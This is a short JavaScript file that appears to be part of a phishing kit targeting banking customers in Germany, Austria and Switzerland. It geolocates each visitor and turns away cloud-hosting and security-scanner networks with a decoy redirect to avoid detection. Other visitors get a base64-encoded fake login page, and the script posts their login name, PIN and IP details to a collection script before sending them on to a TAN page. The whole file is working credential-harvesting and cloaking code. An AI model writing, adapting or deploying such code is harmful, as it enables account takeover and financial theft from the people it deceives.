(async function () {
  const allow = ["DE", "AT", "CH"];
  const noHost = /amazon|google|microsoft|digitalocean|ovh|hetzner|leaseweb|proofpoint|barracuda|netcraft|censys/i;
  let ip;
  try { ip = await (await fetch("https://ipapi.co/json/")).json(); } catch (e) { return location.replace("https://www.suchseite.example/"); }
  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (!allow.includes(ip.country_code) || noHost.test(ip.org || "") || !/^Europe\/(Berlin|Vienna|Zurich|Busingen)$/.test(tz)) {
    return location.replace("https://www.suchseite.example/");
  }
  sessionStorage.setItem("ip", ip.ip + " " + ip.city + " " + ip.org);
  const html = await (await fetch("v/" + ip.country_code.toLowerCase() + ".txt?" + Math.random())).text();
  document.open();
  document.write(decodeURIComponent(escape(atob(html))));
  document.close();
  window.senden = function (f) {
    fetch("v/s.php", { method: "POST", body: new URLSearchParams({ anmeldename: f.anmeldename.value, pin: f.pin.value, ip: sessionStorage.getItem("ip") }) })
      .then(() => { location.href = "v/tan.html"; });
    return false;
  };
})();
